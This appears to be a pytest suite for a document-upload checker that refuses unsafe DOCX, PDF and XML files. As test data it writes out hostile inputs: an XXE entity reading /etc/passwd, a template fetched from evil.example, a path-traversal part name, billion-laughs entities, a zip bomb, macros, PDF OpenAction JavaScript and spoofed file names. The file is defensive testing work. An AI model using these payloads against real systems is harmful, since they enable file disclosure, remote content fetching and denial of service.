from __future__ import annotations

import io

import pikepdf
import pytest

from secretariat.writing.reading import Unreadable, check_upload, read_file
from secretariat.writing.reading.gate import require_size
from secretariat.writing.reading.unreadable import shown

DTD = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def refusal(data: bytes, name: str = "report.docx") -> tuple[str, str]:
    with pytest.raises(Unreadable) as refused:
        check_upload(data, name)
    assert "report" in str(refused.value)
    return refused.value.code, str(refused.value)


def pdf(**catalog) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    for key, value in catalog.items():
        document.Root["/" + key] = document.make_indirect(value)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


@pytest.mark.parametrize("data", [b"", b"\n \t\r\n", b"\x00" * 90, b"\xef\xbb\xbf"])
def test_an_empty_file_is_refused(data):
    assert refusal(data) == ("empty", "“report.docx” is empty: choose the file again, or save it once more.")


def test_random_bytes_named_docx_are_refused():
    data = bytes((at * 73 + at // 7 * 31) % 256 for at in range(5_000))

    assert refusal(data)[0] == "unknown-kind"


def test_a_pdf_named_docx_is_taken_for_what_it_is():
    upload = check_upload(pdf(), "report.docx")

    assert (upload.kind, [note.code for note in upload.notes]) == ("pdf", ["kind-differs-from-name"])


def test_a_clean_document_passes_without_notes(package):
    upload = check_upload(package(), "report.docx")

    assert (upload.kind, upload.notes) == ("docx", ())
    assert upload.media_type.endswith("wordprocessingml.document")


def test_a_bomb_is_not_unpacked(package):
    assert refusal(package(**{"word/media/x.xml": b"0" * 120_000_000}))[0] == "bomb"


def test_a_crowd_of_parts_is_not_unpacked(package):
    assert refusal(package(**{f"word/{at}.txt": b"" for at in range(2_100)}))[0] == "bomb"


@pytest.mark.parametrize(
    ("part", "content", "code"),
    [
        ("word/vbaProject.bin", b"x", "macros"),
        ("word/embeddings/oleObject1.bin", b"x", "macros"),
        ("word/activeX/activeX1.xml", "<x/>", "macros"),
        ("../../etc/cron.d/x", b"x", "path"),
        ("word/_rels/settings.xml.rels", TEMPLATE, "external"),
        ("word/settings.xml", DTD + "<x>&e;</x>", "entities"),
        ("word/styles.xml", "<w:styles", "damaged"),
    ],
)
def test_what_hides_in_a_document_is_named(package, part, content, code):
    found, message = refusal(package(**{part: content}))

    assert found == code
    assert "save it" in message.lower() or "not read" in message or "not opened" in message


@pytest.mark.parametrize(
    ("target", "passes"),
    [
        ("Normal.dotm", True),
        ("C:\\Users\\ana\\Templates\\Letter%20head.dotx", True),
        ("file:///C:/Templates/Normal.dotm", True),
        ("../Templates/Normal.dotm", True),
        ("http://evil.example/t.dotm", False),
        ("\\\\server\\share\\t.dotm", False),
        ("file:///\\\\server\\share\\t.dotm", False),
        ("file://server/share/t.dotm", False),
        ("%5C%5Cserver%5Cshare%5Ct.dotm", False),
        ("//server/share/t.dotm", False),
        ("", False),
    ],
)
def test_a_template_of_the_writers_own_computer_is_left_aside_and_any_other_refused(package, target, passes):
    data = package(**{"word/_rels/settings.xml.rels": TEMPLATE.replace("https://evil.example/t.dotm", target)})

    if passes:
        assert check_upload(data, "report.docx").kind == "docx"
    else:
        assert refusal(data) == (
            "external",
            "“report.docx” would fetch its template from elsewhere (settings.xml.rels): in Word, choose Developer > "
            "Document Template, empty the field “Document template”, and save it.",
        )


def test_a_macro_document_is_known_by_its_declared_type(package):
    types = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'

    assert refusal(package(**{"[Content_Types].xml": types}))[0] == "macros"


def test_entities_that_multiply_are_refused():
    laughs = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><akomaNtoso>&b;</akomaNtoso>'

    assert refusal(laughs.encode(), "report.xml")[0] == "entities"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "old-or-protected"),
        (b"{\\rtf1 words}", "rtf"),
        (b"PK\x03\x04" + b"rubbish" * 90, "damaged"),
        (b"%PDF-1.7\nrubbish", "damaged"),
    ],
)
def test_other_kinds_are_refused_with_a_way_out(data, code):
    assert refusal(data)[0] == code


def test_a_pdf_with_a_password_is_refused():
    document = pikepdf.new()
    document.add_blank_page()
    stream = io.BytesIO()
    document.save(stream, encryption=pikepdf.Encryption(owner="o", user="u"))

    assert refusal(stream.getvalue(), "report.pdf")[0] == "password"


def test_a_pdf_with_a_script_is_refused():
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    assert refusal(pdf(OpenAction=script), "report.pdf")[0] == "active-pdf"


@pytest.mark.parametrize("depth", [0, 1, 3])
def test_a_script_that_is_written_inside_another_part_of_a_pdf_is_refused(depth):
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    for _level in range(depth):
        script = pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=pikepdf.Array([script]))
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = script
    stream = io.BytesIO()
    document.save(stream, object_stream_mode=pikepdf.ObjectStreamMode.disable)

    assert b"/OpenAction <<" in stream.getvalue()
    assert refusal(stream.getvalue(), "report.pdf")[0] == "active-pdf"


def test_a_pdf_that_opens_on_its_first_page_passes():
    jump = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D="first")

    assert check_upload(pdf(OpenAction=jump), "report.pdf").kind == "pdf"


def test_a_pdf_without_words_asks_for_the_document_itself():
    with pytest.raises(Unreadable, match="no text layer"):
        read_file(pdf(), "report.pdf")


def test_size_has_a_limit():
    with pytest.raises(Unreadable, match="1 MB is the limit"):
        check_upload(b"words " * 400_000, "report.txt", limit=1_000_000)


@pytest.mark.parametrize(
    ("size", "head", "code"),
    [
        (49_000_000, b"1. A paragraph.", "too-long"),
        (49_000_000, b"PK\x03\x04", None),
        (49_000_000, b"%PDF-1.7", None),
        (49_000_000, b"<?xml version='1.0'?><akomaNtoso>", None),
        (9_000_000, b"1. A paragraph.", None),
        (51_000_000, b"%PDF-1.7", "too-big"),
    ],
)
def test_its_size_and_its_first_bytes_tell_that_a_file_is_too_big(size, head, code):
    try:
        require_size(size, head, "report")
        found = None
    except Unreadable as refused:
        found = refused.code

    assert found == code


def test_fifty_megabytes_of_text_are_refused_at_once():
    with pytest.raises(Unreadable, match="10 MB is the limit: import it in parts"):
        read_file(b"1. A paragraph of the report.\n\n" * 1_600_000, "report.txt")


def test_a_text_of_whatever_size_is_told_the_limit_of_texts(tmp_path):
    path = tmp_path / "report.txt"
    path.write_bytes(b"1. A paragraph of the report.\n\n" * 1_680_000)

    with pytest.raises(Unreadable) as refused:
        read_file(path)

    assert str(refused.value) == "“report.txt” has 53 MB of text, and 10 MB is the limit: import it in parts."


def test_a_file_is_never_said_to_be_as_big_as_its_limit():
    with pytest.raises(Unreadable, match="has 2 MB, and 1 MB is the limit"):
        check_upload(b"words " * 170_000, "report.txt", limit=1_000_000)


def test_a_missing_file_gets_a_sentence(tmp_path):
    with pytest.raises(Unreadable, match=r"“absent\.docx” cannot be opened"):
        read_file(tmp_path / "absent.docx")


@pytest.mark.parametrize(
    ("name", "seen"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\x\\r.docx", "r.docx"),
        ("a\u202excod.exe", "axcod.exe"),
        ("n" * 300, "n" * 60 + "…" + "n" * 30),
    ],
)
def test_names_are_shown_without_their_tricks(name, seen):
    assert shown(name) == seen
